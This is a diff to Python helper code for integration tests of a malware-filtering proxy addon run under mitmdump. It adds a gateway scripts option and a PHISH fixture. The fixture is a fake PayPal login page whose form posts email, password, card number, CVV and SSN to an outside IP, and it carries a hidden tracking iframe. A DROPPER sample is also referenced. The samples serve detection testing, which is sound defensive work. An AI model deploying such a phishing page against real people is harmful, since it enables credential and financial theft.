@@ -1,7 +1,7 @@
 """Helpers for the proxy integration tests: a local upstream (HTTP and HTTPS) and real mitmdump.
 
 Nothing here is mocked: the upstream is a real threaded HTTP server on 127.0.0.1 (HTTPS with a
-self-signed certificate made here), and the gateway is a real ``mitmdump -s addon/malwaresnipper.py``
+self-signed certificate made here), and the gateway is a real ``mitmdump -s addon/mitmdump_entry.py``
 subprocess with its own confdir, data dir and ports.
 """
 
@@ -26,10 +26,10 @@ from typing import Any
 from urllib.parse import urlencode
 
 import brotli
-from support_ports import free_port
+from helpers.ports import free_port
 
 REPO = Path(__file__).resolve().parents[2]
-SHIM = REPO / "addon" / "malwaresnipper.py"
+SHIM = REPO / "addon" / "mitmdump_entry.py"
 TOKEN = "proxy-integration-test-token-0123456789"
 
 DROPPER = b"""<!DOCTYPE html><html><head><title>Your invoice</title></head><body><p>Loading...</p><script>
@@ -202,6 +202,8 @@ class Upstream:
     https_port: int = 0
     hits: Counter[str] = field(default_factory=Counter)
     servers: list[ThreadingHTTPServer] = field(default_factory=list)
+    #: the certificate its HTTPS side serves, for the gateway to trust (set by whoever started it)
+    cert: Path | None = None
 
     def start(self, cert: Path, key: Path) -> None:
         upstream = self
@@ -287,7 +289,7 @@ def default_routes(big_binary: bytes) -> dict[str, Route]:
 
 @dataclass
 class Gateway:
-    """A running ``mitmdump -s addon/malwaresnipper.py``."""
+    """A running ``mitmdump -s addon/mitmdump_entry.py``."""
 
     process: subprocess.Popen[str]
     proxy_port: int
@@ -371,8 +373,8 @@ def _children(pid: int) -> list[int]:
 
 
 def start_gateway(tmp: Path, upstream_cert: Path, *, options: list[str], config_toml: str = "",
-                  python: str | None = None) -> Gateway:
-    """Start mitmdump with the addon; returns once the gateway logged that it is ready."""
+                  python: str | None = None, scripts: tuple[Path, ...] = ()) -> Gateway:
+    """Start mitmdump with the addon (and ``scripts`` after it); returns once the gateway is ready."""
     tmp.mkdir(parents=True, exist_ok=True)
     confdir, home = tmp / "conf", tmp / "home"
     proxy_port, api_port, events_port = free_port(), free_port(), free_port()
@@ -393,6 +395,8 @@ def start_gateway(tmp: Path, upstream_cert: Path, *, options: list[str], config_
     cmd += ["--set", f"malwaresnipper_config={config}"]
     for option in options:
         cmd += ["--set", option]
+    for script in scripts:
+        cmd += ["-s", str(script)]
     env = dict(os.environ, MALWARESNIPPER_HOME=str(home), MALWARESNIPPER_TOKEN=TOKEN, PYTHONUNBUFFERED="1")
     process = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=env, cwd=tmp)
     lines: list[str] = []
@@ -416,3 +420,22 @@ def start_gateway(tmp: Path, upstream_cert: Path, *, options: list[str], config_
         gw.stop()
         raise
     return gw
+
+
+PHISH = b"""<!DOCTYPE html><html><head><title>PayPal: Log in to your account</title></head><body>
+<div class="logo">PayPal</div><h1>Your account has been limited</h1>
+<p>We noticed unusual activity. Verify your account information to restore access. Confirm your identity now.</p>
+<form action="http://198.51.100.23/paypal/login.php" method="post">
+<input type="email" name="login_email" placeholder="Email">
+<input type="password" name="login_password" placeholder="Password">
+<input type="text" name="cc_number" placeholder="Card number"><input type="text" name="cvv" placeholder="CVV">
+<input type="text" name="ssn" placeholder="Social Security Number">
+<button type="submit">Log In</button></form>
+<iframe src="http://198.51.100.23/track" width="0" height="0" style="display:none"></iframe>
+</body></html>"""
+
+
+def deep(page: bytes, levels: int) -> bytes:
+    """The page with its form nested ``levels`` <div>s deep."""
+    return page.replace(b"<form", b"<div>" * levels + b"<form").replace(b"</body>", b"</div>" * levels + b"</body>")
+
